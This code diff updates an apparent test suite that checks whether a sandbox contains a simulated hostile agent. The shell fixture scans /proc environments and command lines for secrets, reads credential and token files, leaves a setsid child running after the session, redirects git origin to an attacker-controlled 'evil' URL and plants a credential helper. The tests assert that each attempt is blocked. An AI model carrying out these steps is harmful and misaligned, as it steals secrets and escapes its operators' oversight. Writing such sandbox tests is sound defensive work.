@@ -43,19 +43,21 @@ cat > /dev/null
 leg=$(grep -o 'LEG-[a-z]*' "$SVC_TASK_FILE" | head -1)
 evil=$(grep -o 'EVIL=[^ ]*' "$SVC_TASK_FILE" | head -1 | cut -d= -f2)
 out="$PWD/loot-$leg.txt"
+for p in /proc/[0-9]*; do
+  echo "PROC $p"
+  tr '\\0' '\\n' < "$p/environ" 2>/dev/null
+  tr '\\0' ' ' < "$p/cmdline" 2>/dev/null; echo
+done > "$PWD/proc-$leg.txt"
 {
-  for p in /proc/[0-9]*; do
-    echo "PROC $p"
-    tr '\\0' '\\n' < "$p/environ" 2>/dev/null
-    tr '\\0' ' ' < "$p/cmdline" 2>/dev/null; echo
-  done
   find "$HOME/.svc" -type f 2>/dev/null | while read -r f; do
     if cat "$f" >/dev/null 2>&1; then echo "READABLE $f"; cat "$f"; fi
   done
   for f in /var/run/svc/* /etc/svc/* "$HOME/.svc/control/token"; do cat "$f" 2>/dev/null; done
 } > "$out"
-setsid sleep 300 </dev/null >/dev/null 2>&1 &
-echo $! > "$PWD/setsid-$leg.pid"
+# Inside a PID namespace $! means nothing outside it: the child is found on the host by its unique duration.
+case "$leg" in LEG-cli) n=3011 ;; LEG-jobs) n=3012 ;; LEG-chata) n=3013 ;; *) n=3014 ;; esac
+setsid sleep "$n" </dev/null >/dev/null 2>&1 &
+echo "setsid child started" >> "$out"
 origin=$(git remote get-url origin 2>/dev/null)
 git config --add "url.$evil/.insteadOf" "$origin" 2>/dev/null
 git config --add credential.helper "!sh -c 'echo ran > $PWD/helper-ran-$leg'" 2>/dev/null
@@ -101,6 +103,23 @@ function environOf(pid: number): string {
 
 function leaks(text: string): string[] {
   return Object.entries(SECRETS).filter(([, v]) => text.includes(v)).map(([k]) => k);
+}
+
+/** The unique `sleep` duration each leg's agent gives its setsid child (see HOSTILE). */
+const DURATION: Record<string, number> = { cli: 3011, jobs: 3012, chata: 3013, control: 3014 };
+
+/** Host pids whose command line is exactly `marker` (e.g. "sleep 3011"). */
+function sleepers(marker: string): number[] {
+  const found: number[] = [];
+  for (const entry of readdirSync('/proc')) {
+    if (!/^\d+$/.test(entry)) continue;
+    try {
+      if (readFileSync(`/proc/${entry}/cmdline`, 'utf8').split('\0').filter(Boolean).join(' ') === marker) found.push(Number(entry));
+    } catch {
+      // The process ended while we looked.
+    }
+  }
+  return found;
 }
 
 function alive(pid: number): boolean {
@@ -156,10 +175,8 @@ describe('the agent boundary, black-box', () => {
     await stop(control);
     await github.close();
     await new Promise((r) => evil.close(r));
-    for (const f of readdirSync(repo.repo).filter((n) => n.startsWith('setsid-'))) {
-      const pid = Number(readFileSync(join(repo.repo, f), 'utf8'));
-      if (pid > 0 && alive(pid)) process.kill(pid, 'SIGKILL');
-    }
+    // Whatever the agents left behind (an unsandboxed run's setsid child survives it), the test does not.
+    for (const n of Object.values(DURATION)) for (const pid of sleepers(`sleep ${n}`)) if (alive(pid)) process.kill(pid, 'SIGKILL');
     repo.cleanup();
   });
 
@@ -251,6 +268,7 @@ describe('the agent boundary, black-box', () => {
     describe(`through ${leg}`, () => {
       let state: Record<string, any>;
       let loot: string;
+      let procLoot: string;
       let workdir: string;
       before(async () => {
         const ref = legs.get(leg);
@@ -258,24 +276,28 @@ describe('the agent boundary, black-box', () => {
         state = await ended(ref.run);
         workdir = state.workdir;
         loot = readFileSync(join(workdir, `loot-LEG-${leg}.txt`), 'utf8');
+        procLoot = readFileSync(join(workdir, `proc-LEG-${leg}.txt`), 'utf8');
       });
 
       it('the agent ran and found no secret value of svc in any /proc/*/environ or cmdline it could read', () => {
-        assert.match(loot, /PROC \/proc\/\d+/, 'the agent scanned /proc');
+        assert.match(procLoot, /PROC \/proc\/\d+/, 'the agent scanned /proc');
+        assert.deepEqual(leaks(procLoot), []);
+      });
+
+      // Without the sandbox this fails twice over: ~/.svc is readable, and so is another run's secrets handoff file
+      // for the moment between its writing and its receiver's start.
+      it('the agent could read no file under ~/.svc nor any secret svc keeps in a file', { todo: SANDBOX_PENDING }, () => {
+        assert.deepEqual(loot.split('\n').filter((l) => l.startsWith('READABLE ')), []);
+        assert.doesNotMatch(loot, /PRIVATE KEY/);
         assert.deepEqual(leaks(loot), []);
       });
 
-      it('the agent could read no file under ~/.svc and could not plant a receipt key', { todo: SANDBOX_PENDING }, () => {
-        assert.deepEqual(loot.split('\n').filter((l) => l.startsWith('READABLE ')), []);
-        assert.doesNotMatch(loot, /PRIVATE KEY|PLANTED KEY/);
-      });
-
       it('the setsid child the agent left behind is gone within 2 s of the run ending', { todo: SANDBOX_PENDING }, async () => {
-        const pid = Number(readFileSync(join(workdir, `setsid-LEG-${leg}.pid`), 'utf8'));
-        assert.ok(pid > 0);
+        assert.match(loot, /setsid child started/);
+        const marker = `sleep ${DURATION[leg]}`;
         const deadline = Date.now() + 2_000;
-        while (alive(pid) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
-        assert.equal(alive(pid), false, `pid ${pid} still runs`);
+        while (sleepers(marker).length && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
+        assert.deepEqual(sleepers(marker), [], `"${marker}" still runs`);
       });
 
       it('the run shipped to the Control Plane: its worker got the control token without it being in any environment', async () => {
@@ -283,7 +305,7 @@ describe('the agent boundary, black-box', () => {
         const shipped = await waitFor(async () => {
           const r = await controlGet(`/v1/runs/${ref.source}/${ref.run}`);
           return r.status === 200 && r.json.status === state.status ? r.json : null;
-        }, `run ${ref.run} to ship`);
+        }, `run ${ref.run} to ship`, 100_000);
         assert.equal(shipped.status, state.status);
       });
 
@@ -296,7 +318,7 @@ describe('the agent boundary, black-box', () => {
         }
       });
 
-      it('its receipt is signed by the Control Plane\u2019s own key, not one the agent made', { todo: SANDBOX_PENDING }, async () => {
+      it('its receipt is signed by the Control Plane\u2019s own key, not one the agent planted', { todo: SANDBOX_PENDING }, async () => {
         const receipt = JSON.parse(readFileSync(join(repo.repo, '.svc', 'runs', legs.get(leg)!.run, 'artifacts', 'receipt.json'), 'utf8'));
         const keys = (await controlGet('/v1/keys')).json.keys as Array<{ kid: string; name: string }>;
         assert.equal(receipt.kid, keys.find((k) => k.name === 'local')!.kid);
@@ -306,7 +328,8 @@ describe('the agent boundary, black-box', () => {
 
   it('refuses, in the merge queue, a receipt the agent signed with a key of its own', async () => {
     const ref = legs.get('control')!;
-    await waitFor(async () => ((await controlGet(`/v1/runs/${ref.source}/${ref.run}`)).json.verdict ? true : null), 'the receipt to ship');
+    const shippedVerdict = async () => ((await controlGet(`/v1/runs/${ref.source}/${ref.run}`)).json.verdict ? true : null);
+    await waitFor(shippedVerdict, 'the receipt to ship', 100_000);
     const shipped = await fetch(`${control.url}/v1/runs/${ref.source}/${ref.run}/artifact/receipt.json`, { headers: controlAuth });
     const { kid: _k, integrity: _i, signature: _s, ...body } = (await shipped.json()) as Receipt;
     const pair = generateKeyPairSync('ed25519');
